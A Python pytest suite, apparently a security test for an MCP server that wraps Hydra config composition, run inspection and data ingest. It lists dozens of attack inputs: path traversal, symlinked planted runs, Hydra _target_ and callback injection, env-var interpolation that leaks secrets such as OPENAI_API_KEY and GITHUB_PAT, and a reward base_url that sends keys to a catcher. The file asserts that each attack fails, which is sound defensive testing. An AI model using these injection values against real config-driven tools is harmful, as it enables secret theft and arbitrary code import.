@attack("hydra_searchpath_file_outside_the_roots")
def _(ctx):
    o = ctx.outside
    return [compose(f"hydra.searchpath=[file://{o}/conf]", "+experiment=evil"),
            compose("hydra.searchpath=[file://link_conf]", "model=evil"),
            compose("hydra.searchpath=[file://${oc.env:HOME}/conf]", "+experiment=evil"),
            compose(f"hydra.searchpath=[{o}/conf]", "reward=evil"),
            plan("hydra.searchpath=[file://~/conf]", "+experiment=evil")]


@attack("hydra_callbacks_launcher_sweeper_targets")
def _(ctx):
    return [compose(f"+hydra.callbacks.lw._target_={ctx.module('callback')}.Obj"),
            compose(f"hydra.sweeper._target_={ctx.module('sweeper')}.Obj", "seed=1,2", multirun=True),
            compose(f"+hydra.launcher._target_={ctx.module('launcher')}.Obj", "seed=1,2", multirun=True),
            plan(f"hydra.launcher._target_={ctx.module('launcher_plan')}.Obj", "seed=1,2", multirun=True),
            compose(f"hydra.job_logging.handlers.console.class={ctx.module('logging')}.Obj"),
            compose(f"hydra/sweeper={ctx.module('sweeper_group')}", multirun=True)]


@attack("config_dir_flags_and_group_path_traversal")
def _(ctx):
    o = ctx.outside
    return [compose(f"--config-dir={o}/conf"), compose("-cd", f"{o}/conf"), compose(f"--config-path={o}/conf"),
            compose(f"--config-name=../../../../..{o}/conf/train"),
            compose(f"+experiment=../../../../../../../..{o}/conf/experiment/evil"),
            compose("model=../../../../../../../../.." + str(o / "conf" / "model" / "evil")),
            compose(f"experiment={o}/conf/experiment/evil")]


@attack("list_options_group_outside_the_roots")
def _(ctx):
    o = ctx.outside
    return [("list_options", {"group": g}) for g in
            (f"../../../../../../../..{o}/conf/experiment", str(o / "conf" / "experiment"), "~/conf/experiment",
             "${oc.env:OPENAI_API_KEY}", "../" * 12 + str(ctx.home)[1:] + "/conf/model")]


@attack("launch_on_a_read_only_server_with_hostile_overrides")
def _(ctx):
    return [("launch", {"overrides": [*TINY, f"reward._target_={ctx.module('launch')}.fn",
                                      "run_name=${oc.env:OPENAI_API_KEY}"]}),
            ("launch", {"overrides": [*TINY, f"hydra.searchpath=[pkg://{ctx.package('launch_sweep', 'pp')}]",
                                      "reward=judge", f"reward.base_url={ctx.url('launch')}/v1", "reward.model=m",
                                      "reward.api_key_env=OPENAI_API_KEY", "reward.calibration=calib.jsonl"],
                        "sweep": True})]


# -- the run-reading tools


@attack("run_readers_on_paths_outside_the_roots")
def _(ctx):
    calls = []
    for p in [str(ctx.outside / "run"), "../outside/run", "sub/../../outside/run", "~/run", "linkrun",
              f"file://{ctx.outside / 'run'}", "${oc.env:HOME}/run", str(ctx.outputs / ".." / "outside" / "run"),
              str(ctx.outputs / "runs" / "linked_outside")]:
        calls += [("run_status", {"run_dir": p, "log_lines": 200}), ("run_metrics", {"run_dir": p, "last": 0}),
                  ("run_eval", {"run_dir": p, "records": 5}), ("lineage", {"run_dir": p})]
    calls += [("sweep_report", {"sweep_dir": p}) for p in (str(ctx.outside), "~", "linkdir", "../outside")]
    return calls


@attack("planted_run_with_symlinked_files")
def _(ctx):
    r = str(ctx.outputs / "runs" / "evil_links")
    return [("run_status", {"run_dir": r, "log_lines": 200}), ("run_metrics", {"run_dir": r, "last": 0}),
            ("run_eval", {"run_dir": r, "records": 5}), ("lineage", {"run_dir": r})]


@attack("planted_launch_json_naming_an_outside_log")
def _(ctx):
    r = str(ctx.outputs / "runs" / "evil_launchjson")
    return [("run_status", {"run_dir": r, "log_lines": 200}), ("list_runs", {"limit": 500})]


@attack("planted_sweep_with_symlinked_reports")
def _(ctx):
    return [("sweep_report", {"sweep_dir": str(ctx.outputs / "multirun" / "evil_sweep")}),
            ("run_status", {"run_dir": str(ctx.outputs / "multirun" / "evil_sweep")})]


@attack("planted_run_files_with_interpolations")
def _(ctx):
    r = str(ctx.outputs / "runs" / "evil_interp")
    return [("run_status", {"run_dir": r, "log_lines": 200}), ("run_metrics", {"run_dir": r, "last": 0}),
            ("run_eval", {"run_dir": r, "records": 5}), ("lineage", {"run_dir": r})]


@attack("list_runs_over_planted_runs")
def _(ctx):
    return [("list_runs", {"limit": 500})]


def _lineage_check(ctx: Ctx, replies: list) -> list[str]:
    """Reading an outside file to hash it is a read outside the roots (and a content oracle)."""
    found = []
    for reply in replies:
        for line in reply.text.replace("\\n", "\n").splitlines():
            if str(ctx.outside) in line and "[unchanged]" in line:
                found.append(f"lineage hashed a file outside the roots: {line.strip()[:200]}")
    return found


@attack("lineage_chain_into_files_outside_the_roots", check=_lineage_check)
def _(ctx):
    # the fixture plants outputs/runs/evil_lineage (its curated data -> improve -> raw logs outside) after the
    # benign ingest/improve have shown the record formats
    r = str(ctx.outputs / "runs" / "evil_lineage")
    return [("lineage", {"run_dir": r}), ("run_status", {"run_dir": r})]


# -- ingest and improve


@attack("ingest_inputs_outside_the_roots")
def _(ctx):
    out = str(ctx.outputs / "ingest_attack")
    return [("ingest", {"inputs": [p], "output": f"{out}{i}"}) for i, p in enumerate(
        [*_outside_path_args(ctx, "chat.jsonl"), "linkdir", UP, "logs/../" + UP + "/outside"])]


@attack("ingest_hostile_format_and_output")
def _(ctx):
    out = str(ctx.outputs / "ingest_fmt")
    return [("ingest", {"inputs": ["logs/chats.jsonl"], "output": out + "1", "format": "${oc.env:OPENAI_API_KEY}"}),
            ("ingest", {"inputs": ["logs/chats.jsonl"], "output": out + "2",
                        "format": f"openai hydra.searchpath=[pkg://{ctx.package('ingest_fmt', 'pp')}]"}),
            ("ingest", {"inputs": ["logs/chats.jsonl"], "output": str(ctx.outside / "written_by_ingest")}),
            ("ingest", {"inputs": ["logs/chats.jsonl"], "output": "${oc.env:HOME}/written_by_ingest"}),
            ("ingest", {"inputs": ["logs/chats.jsonl", f"+hydra.callbacks.x._target_={ctx.module('ingest_cb')}.Obj",
                                   f"hydra.searchpath=[pkg://{ctx.package('ingest_input', 'pp')}]"],
                        "output": out + "3"})]


@attack("improve_judge_sends_transcripts_and_key_to_attacker")
def _(ctx):
    return [("improve", {"transcripts": str(ctx.outputs / "transcripts"), "output": str(ctx.outputs / "imp_judge"),
                         "reward": "judge", "overrides": [
                             f"reward.base_url={ctx.url('improve-judge')}/v1", "reward.model=m",
                             "reward.api_key_env=OPENAI_API_KEY", "reward.retries=0", "reward.timeout_s=3"]})]


@attack("improve_overrides_import_and_interpolate")
def _(ctx):
    t, o = str(ctx.outputs / "transcripts"), str(ctx.outputs / "imp_ov")
    return [("improve", {"transcripts": t, "output": o + "1", "overrides": [
                f"reward._target_={ctx.module('improve_target')}.fn"]}),
            ("improve", {"transcripts": t, "output": o + "2", "overrides": [
                f"hydra.searchpath=[pkg://{ctx.package('improve_sp', 'pp')}]",
                f"+hydra.callbacks.x._target_={ctx.module('improve_cb')}.Obj"]}),
            ("improve", {"transcripts": t, "output": o + "3", "overrides": [
                "reward.params.threshold=${oc.env:OPENAI_API_KEY}"]}),
            ("improve", {"transcripts": t, "output": o + "4", "overrides": [
                "+reward.params.note=${oc.env:HF_TOKEN}", "task.system_prompt=${oc.env:GITHUB_PAT}"]}),
            ("improve", {"transcripts": t, "output": o + "5", "reward": "${oc.env:WANDB_API_KEY}",
                         "task": "${oc.env:DB_PASSWORD}"})]


@attack("improve_reads_files_outside_the_roots")
def _(ctx):
    t, o = str(ctx.outputs / "transcripts"), str(ctx.outputs / "imp_files")
    records = _outside_variants(ctx, "orders.csv")
    calls = [("improve", {"transcripts": t, "output": f"{o}r{i}", "overrides": [f"task.params.records={p}"]})
             for i, p in enumerate(records[:2] + records[3:4] + records[5:])]
    paths = _outside_path_args(ctx, "canary.jsonl")
    calls += [("improve", {"transcripts": t, "output": f"{o}e{i}", "eval_prompts": p})
              for i, p in enumerate(paths[:1] + paths[3:6])]
    paths = _outside_path_args(ctx, "chat.jsonl")
    calls += [("improve", {"transcripts": p, "output": f"{o}t{i}"}) for i, p in enumerate(paths[:1] + paths[3:6])]
    calls += [("improve", {"transcripts": t, "output": f"{o}c", "overrides": [
        "reward.calibration=${oc.env:HOME}/canary.jsonl", "reward.min_agreement=0.99"]})]
    calls += [("improve", {"transcripts": t, "output": str(ctx.outside / "written_by_improve")})]
    return calls


# ------------------------------------------------------------------------------------------- the session


def _read_detector_self_check(ctx: Ctx, armed: dict[str, int]) -> bool:
    probe = str(ctx.outside / "canary.md")
    Path(probe).read_text()
    return _reads_since_armed(armed) == [probe]


class Reply:
    def __init__(self, tool: str, args: dict, result: Any = None, exc: BaseException | None = None,
                 seconds: float = 0.0):
        self.tool, self.args, self.seconds = tool, args, seconds
        if exc is not None:
            self.is_error, self.text = True, f"{type(exc).__name__}: {exc}"
            return
        self.is_error = bool(result.is_error)
        parts = ["".join(getattr(c, "text", "") for c in result.content)]
        if result.structured_content is not None:
            parts.append(json.dumps(result.structured_content))
        self.text = "\n".join(parts)

    def short(self) -> str:
        error = "ERROR " if self.is_error else ""
        return f"[{self.seconds:.1f}s] {self.tool}({json.dumps(self.args)[:300]}) -> {error}{self.text[:300]}"


@dataclasses.dataclass
class Outcome:
    replies: list[Reply]
    leaks: list[str]
    seconds: float


def _tree_snapshot(*dirs: Path) -> set[str]:
    out = set()
    for d in dirs:
        for dirpath, dirnames, filenames in os.walk(d):
            out.update(os.path.join(dirpath, n) for n in filenames + dirnames)
    return out


def _copied_canaries(*dirs: Path) -> set[str]:
    """Regular files inside the roots that hold a canary (outside content or a secret copied in)."""
    found = set()
    for d in dirs:
        for dirpath, _, filenames in os.walk(d):
            for n in filenames:
                p = Path(dirpath, n)
                if p.is_symlink() or not p.is_file() or p.stat().st_size > 20_000_000:
                    continue
                try:
                    text = p.read_text(errors="replace")
                except OSError:
                    continue
                if leaks_in(text):
                    found.add(f"{p}: {', '.join(leaks_in(text))}")
    return found


def _arm_read_detector(*dirs: Path) -> dict[str, int]:
    """Every regular file under ``dirs`` gets an access time older than its modification time, so that under
    relatime (and strictatime) the next read of it moves its atime: a read outside the roots shows."""
    armed = {}
    for d in dirs:
        for dirpath, _, filenames in os.walk(d):
            for n in filenames:
                p = os.path.join(dirpath, n)
                if os.path.islink(p) or not os.path.isfile(p):
                    continue
                st = os.stat(p)
                os.utime(p, ns=(st.st_mtime_ns - 10**12, st.st_mtime_ns))
                armed[p] = os.stat(p).st_atime_ns
    return armed


def _reads_since_armed(armed: dict[str, int]) -> list[str]:
    read = [p for p, atime in armed.items() if os.path.exists(p) and os.stat(p).st_atime_ns != atime]
    for p in read:  # re-arm for the next attack
        st = os.stat(p)
        os.utime(p, ns=(st.st_mtime_ns - 10**12, st.st_mtime_ns))
        armed[p] = os.stat(p).st_atime_ns
    return sorted(read)


def _plant_lineage_run(ctx: Ctx) -> None:
    """A run dir whose curated data comes from an improve dir whose raw logs are OUTSIDE the roots,
    in the formats the benign ingest/improve just wrote (what an agent sees)."""
    outside_chat = ctx.outside / "chat.jsonl"
    sha = hashlib.sha256(outside_chat.read_bytes()).hexdigest()
    imp, evil_imp = ctx.outputs / "improved", ctx.outputs / "improved_evil"
    if imp.is_dir():
        shutil.copytree(imp, evil_imp)
        summary_path = evil_imp / "improve_summary.json"
        if summary_path.is_file():
            summary = json.loads(summary_path.read_text())
            lineage = summary.setdefault("lineage", {})
            lineage["raw_logs"] = [{"path": str(outside_chat), "sha256": sha, "format": "openai", "kept": 1,
                                    "malformed": 0, "status": "ok", "runs": []}]
            lineage["transcripts"] = {"path": str(ctx.outside / "canary.jsonl"),
                                      "sha256": hashlib.sha256((ctx.outside / "canary.jsonl").read_bytes()).hexdigest()}
            summary_path.write_text(json.dumps(summary))
    curated = evil_imp / "curated.jsonl"
    curated_sha = hashlib.sha256(curated.read_bytes()).hexdigest() if curated.is_file() else "0" * 64
    record = {"curated": {"path": str(curated), "sha256": curated_sha},
              "improve": {"path": str(evil_imp), "summary": str(evil_imp / "improve_summary.json")},
              "raw_logs": [{"path": str(outside_chat), "sha256": sha}],
              "eval_prompts": {"path": str(ctx.outside / "canary.jsonl"),
                               "sha256": hashlib.sha256((ctx.outside / "canary.jsonl").read_bytes()).hexdigest()},
              "parent_run": str(ctx.outside / "run"), "model": {"path": str(ctx.outside / "run" / "model")}}
    _write(ctx.outputs / "runs" / "evil_lineage" / "manifest.json", json.dumps({
        "status": "completed", "lineage": record,
        "config": {"model": {"name": "tiny", "name_or_path": str(ctx.outside / "run" / "model")},
                   "task": {"kind": "curated", "path": str(curated)},
                   "eval": {"prompts": str(ctx.outside / "canary.jsonl")}}}))


async def _drive(ctx: Ctx) -> dict[str, Any]:
    from mcp import ClientSession, StdioServerParameters, stdio_client

    params = StdioServerParameters(command=sys.executable, cwd=str(ctx.project), env=server_env(ctx),
                                   args=["-m", "loopwright.mcp", "--project", str(ctx.project),
                                         "--outputs", str(ctx.outputs)])
    world: dict[str, Any] = {"outcomes": {}}
    built = {a.name: a.build(ctx) for a in ATTACKS}  # creates the per-attack modules before the server starts
    with open(ctx.tmp / "server.err", "w") as errlog:
        async with stdio_client(params, errlog=errlog) as (read, write), ClientSession(read, write) as client:
            init = await client.initialize()
            world["instructions"] = init.instructions or ""
            world["tools"] = {t.name: t for t in (await client.list_tools()).tools}

            async def call(tool: str, args: dict) -> Reply:
                t = time.monotonic()
                try:
                    result = await asyncio.wait_for(client.call_tool(tool, args), CALL_TIMEOUT)
                    return Reply(tool, args, result, seconds=time.monotonic() - t)
                except Exception as exc:  # noqa: BLE001  (a timeout or a protocol error is an answer too)
                    return Reply(tool, args, exc=exc, seconds=time.monotonic() - t)

            # benign setup, as an agent would do it: transcripts and an improve dir in the outputs dir
            setup = [await call("ingest", {"inputs": ["logs/chats.jsonl"], "output": str(ctx.outputs / "transcripts")}),
                     await call("improve", {"transcripts": str(ctx.outputs / "transcripts"),
                                            "output": str(ctx.outputs / "improved")}),
                     await call("compose_config", {"overrides": TINY}),
                     await call("list_options", {})]
            world["setup"] = setup
            _plant_lineage_run(ctx)
            armed = _arm_read_detector(ctx.outside, ctx.home)
            world["read_detector_works"] = _read_detector_self_check(ctx, armed)
            roots_before = _copied_canaries(ctx.project, ctx.outputs)
            world["setup_leaks"] = [leak for r in setup for leak in leaks_in(r.text)] + sorted(roots_before)

            for a in ATTACKS:
                t0 = time.monotonic()
                watched0 = _tree_snapshot(ctx.markers, ctx.outside, ctx.pp)
                replies, marks, leaks = [], [], []
                for tool, args in built[a.name]:
                    marks.append(ctx.catcher.count())
                    replies.append(await call(tool, args))
                    leaks += [f"read a file outside the roots: {p} during {replies[-1].short()}"
                              for p in _reads_since_armed(armed)]
                await asyncio.sleep(0.05)
                for r in replies:
                    leaks += [f"{leak} in the reply to {r.short()}" for leak in leaks_in(r.text)]
                for i, r in enumerate(replies):  # requests at the catcher, by the call that was running
                    end = marks[i + 1] if i + 1 < len(replies) else None
                    for data in ctx.catcher.since(marks[i])[: None if end is None else end - marks[i]]:
                        text = data.decode("latin-1")
                        first = text.splitlines()[0][:200] if text else ""
                        carried = f" carrying {', '.join(leaks_in(text))}" if leaks_in(text) else ""
                        leaks.append(f"network: the catcher received {first!r}{carried} during {r.short()}")
                for path in sorted(_tree_snapshot(ctx.markers, ctx.outside, ctx.pp) - watched0):
                    if path.endswith("__pycache__") or "__pycache__" in path:
                        continue
                    what = "marker (module imported/called)" if path.startswith(str(ctx.markers)) else "file created"
                    leaks.append(f"{what}: {path}")
                copied = _copied_canaries(ctx.project, ctx.outputs) - roots_before
                leaks += [f"outside content / a secret copied into the roots: {c}" for c in sorted(copied)]
                roots_before |= copied
                if a.check:
                    leaks += a.check(ctx, replies)
                world["outcomes"][a.name] = Outcome(replies, leaks, time.monotonic() - t0)
    world["catcher_total"] = ctx.catcher.count()
    world["server_err"] = (ctx.tmp / "server.err").read_text(errors="replace")
    return world


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    catcher = Catcher()
    try:
        ctx = build_world(tmp_path_factory.mktemp("blind"), catcher)
        result = asyncio.run(_drive(ctx))
        result["ctx"] = ctx
    finally:
        catcher.close()
    report = os.environ.get("LW_BLIND_REPORT")
    if report:
        Path(report).write_text(json.dumps({
            name: {"leaks": o.leaks, "calls": len(o.replies), "seconds": round(o.seconds, 2),
                   "replies": [r.short() for r in o.replies]}
            for name, o in result["outcomes"].items()}, indent=1))
    return result


def test_the_server_under_attack_is_read_only_and_lists_its_tools(world):
    assert "Launching is disabled" in world["instructions"]
    assert {"list_options", "compose_config", "plan_job", "launch", "list_runs", "run_status", "run_metrics",
            "run_eval", "sweep_report", "lineage", "ingest", "improve"} <= set(world["tools"])
    assert not world["setup"][0].is_error and not world["setup"][1].is_error, [r.short() for r in world["setup"]]


def test_the_read_detector_sees_a_read(world):
    assert world["read_detector_works"], "atime does not move on read here: reads outside the roots go unseen"


def test_benign_calls_leak_nothing(world):
    assert world["setup_leaks"] == []


# Measured once, on the merged fix (session 7): these 10 of the 59 attacks still leak. Each is a strict xfail,
# not a skip: the day one stops leaking, its test fails until it is taken off this list. Issue 25 stays open.
# Attacks that still leaked when the set was measured on the fix (efc5e83): none since the next fixes, which
# were made knowing these attacks (a fit; RESULTS.md). An entry here marks an attack as an expected failure.
OPEN_LEAKS: dict[str, str] = {}


@pytest.mark.parametrize("name", [pytest.param(a.name, marks=pytest.mark.xfail(strict=True, reason=OPEN_LEAKS[a.name]))
                                  if a.name in OPEN_LEAKS else a.name for a in ATTACKS])
def test_attack_fails(world, name):
    outcome = world["outcomes"][name]
    assert not outcome.leaks, (f"{name} succeeded:\n"
                               + "\n".join(" ".join(leak.split())[:400] for leak in outcome.leaks[:8]))


def test_no_request_reached_the_catcher_during_the_whole_session(world):
    assert world["catcher_total"] == 0
